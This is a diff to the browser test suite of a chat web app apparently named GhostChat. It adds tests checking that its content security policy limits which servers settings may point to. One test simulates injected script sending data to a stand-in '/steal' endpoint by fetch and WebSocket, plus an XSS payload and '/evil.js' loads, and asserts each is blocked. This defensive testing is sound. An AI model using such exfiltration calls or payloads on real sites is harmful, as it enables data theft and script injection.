@@ -3,7 +3,7 @@
 // offline reload served by the service worker.
 import assert from "node:assert/strict";
 import { after, before, describe, it } from "node:test";
-import { artifact, AXE_SOURCE, chromiumPage, connectPair, createRoom, launchChromium, startServer, waitConnected, wrapPage } from "./harness.mjs";
+import { artifact, AXE_SOURCE, chromiumPage, connectPair, createRoom, freePort, launchChromium, startServer, waitConnected, wrapPage } from "./harness.mjs";
 
 const PHONE = { width: 360, height: 740 };
 const DESKTOP = { width: 1366, height: 860 };
@@ -44,8 +44,17 @@ describe("PWA, layout and accessibility", { timeout: 300_000 }, () => {
   let server, browser;
 
   before(async () => {
-    // A short EXPIRE so that joining a host who is gone fails fast (the retries still run).
-    server = await startServer({ GhostChat__Signaling__ExpireTimeout: "00:00:01" });
+    // A short EXPIRE so that joining a host who is gone fails fast (the retries still run). The operator
+    // lets the app also use this server under the name localhost (another origin than 127.0.0.1).
+    const port = await freePort();
+    server = await startServer(
+      {
+        GhostChat__Signaling__ExpireTimeout: "00:00:01",
+        GhostChat__SecurityHeaders__ConnectSources__0: `http://localhost:${port}`,
+        GhostChat__SecurityHeaders__ConnectSources__1: `ws://localhost:${port}`,
+      },
+      port,
+    );
     browser = await launchChromium();
   });
 
@@ -248,14 +257,16 @@ describe("PWA, layout and accessibility", { timeout: 300_000 }, () => {
     const errs = await p.eval(() => ["host", "port", "iceServers"].map((f) => document.querySelector(`#err-${f}`).textContent.length > 0));
     assert.deepEqual(errs, [true, true, true]);
     assert.equal(await p.eval(() => localStorage.getItem("ghostchat.settings.v1")), null);
-    await p.page.fill("#set-host", "signal.example.org");
-    await p.page.fill("#set-port", "9000");
+    // A server the site's policy admits (the operator listed localhost:<port>, see before()).
+    await p.page.fill("#set-host", "localhost");
+    await p.page.fill("#set-port", String(server.port));
+    await p.page.uncheck("#set-secure");
     await p.page.fill("#set-ice", "stun:stun.example.org:3478");
     await p.click("#settings-save");
     await p.waitFor(() => document.querySelector("#settings-feedback").textContent === "Settings saved");
     const saved = JSON.parse(await p.eval(() => localStorage.getItem("ghostchat.settings.v1")));
-    assert.equal(saved.host, "signal.example.org");
-    assert.equal(saved.port, 9000);
+    assert.equal(saved.host, "localhost");
+    assert.equal(saved.port, server.port);
     await p.context.close();
   });
 
@@ -286,6 +297,88 @@ describe("PWA, layout and accessibility", { timeout: 300_000 }, () => {
     assert.deepEqual(host.errors, []);
     await host.context.close();
     await guest.context.close();
+  });
+
+  // The policy's connect-src admits only this server (and the origins its operator listed): a custom
+  // server it does not admit could never be reached, and the settings say so instead of saving it.
+  it("settings_ServerTheSitePolicyBlocks_ExplainedNotSaved", async () => {
+    const p = await chromiumPage(browser);
+    await p.goto(server.url + "/");
+    await p.click("#open-settings");
+    assert.match(await p.eval(() => document.querySelector("#settings-dialog p").textContent), /security policy/);
+    await p.page.check("#set-custom");
+    await p.page.fill("#set-host", "signal.example.org");
+    await p.page.fill("#set-port", "443");
+    await p.page.check("#set-secure");
+    await p.click("#settings-save");
+    await p.waitFor(() => document.querySelector("#err-host").textContent !== "");
+    assert.match(
+      await p.eval(() => document.querySelector("#err-host").textContent),
+      /security policy does not let the app connect to https:\/\/signal\.example\.org:443, wss:\/\/signal\.example\.org:443.*operator/,
+    );
+    assert.equal(await p.eval(() => document.querySelector("#set-host").getAttribute("aria-invalid")), "true");
+    assert.equal(await p.eval(() => localStorage.getItem("ghostchat.settings.v1")), null);
+    // A server saved before the operator narrowed the policy: the dialog says so as soon as it opens.
+    await p.eval(() =>
+      localStorage.setItem(
+        "ghostchat.settings.v1",
+        JSON.stringify({ custom: true, host: "old.example.org", port: 443, path: "/", key: "peerjs", secure: true, iceServers: [] }),
+      ),
+    );
+    await p.page.reload();
+    await p.click("#open-settings");
+    await p.waitFor(() => document.querySelector("#err-host").textContent !== "");
+    assert.match(await p.eval(() => document.querySelector("#err-host").textContent), /does not let the app connect to https:\/\/old\.example\.org:443/);
+    await p.context.close();
+  });
+
+  // Attack (issue 15): script that got into the page (a bug, a hostile extension of the data) sends
+  // what it read to a server of its choosing, or turns a string into markup or script. The CSP blocks
+  // both: connect-src is this server only, and Trusted Types refuse strings at every script sink.
+  it("csp_OtherOriginAndStringSinks_Blocked_AppStillWorks", async () => {
+    const p = await chromiumPage(browser);
+    await p.goto(server.url + "/");
+    await p.waitFor(() => navigator.serviceWorker.controller !== null); // the one sink the app uses, admitted
+    const other = `http://127.0.0.1:${await freePort()}/steal`;
+    const r = await p.eval(async (url) => {
+      const violations = [];
+      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
+      const attempt = async (f) => {
+        try {
+          await f();
+          return "allowed";
+        } catch (e) {
+          return e.name;
+        }
+      };
+      const results = {
+        fetch: await attempt(() => fetch(url, { method: "POST", body: "secret" })),
+        webSocket: await attempt(
+          () =>
+            new Promise((resolve, reject) => {
+              const ws = new window.WebSocket(url.replace("http", "ws"));
+              ws.onopen = resolve;
+              ws.onerror = () => reject(new Error("blocked"));
+            }),
+        ),
+        innerHTML: await attempt(() => (document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>")),
+        scriptSrc: await attempt(() => (document.createElement("script").src = "/assets/evil.js")),
+        otherServiceWorker: await attempt(() => navigator.serviceWorker.register("/evil.js")),
+        // Our own sink still works: the app's policy admits its service worker.
+        ownServiceWorker: await attempt(() => navigator.serviceWorker.register("/sw.js", { scope: "/" })),
+      };
+      await new Promise((res) => setTimeout(res, 200)); // violation events are queued
+      return { results, violations };
+    }, other);
+    assert.equal(r.results.fetch, "TypeError");
+    assert.notEqual(r.results.webSocket, "allowed");
+    assert.equal(r.results.innerHTML, "TypeError");
+    assert.equal(r.results.scriptSrc, "TypeError");
+    assert.equal(r.results.otherServiceWorker, "TypeError");
+    assert.equal(r.results.ownServiceWorker, "allowed");
+    assert.ok(r.violations.includes("connect-src"), `violations: ${r.violations}`);
+    assert.ok(r.violations.includes("require-trusted-types-for"), `violations: ${r.violations}`);
+    await p.context.close();
   });
 
   // The server refuses the socket ("Invalid key provided"), which the client reports as a server
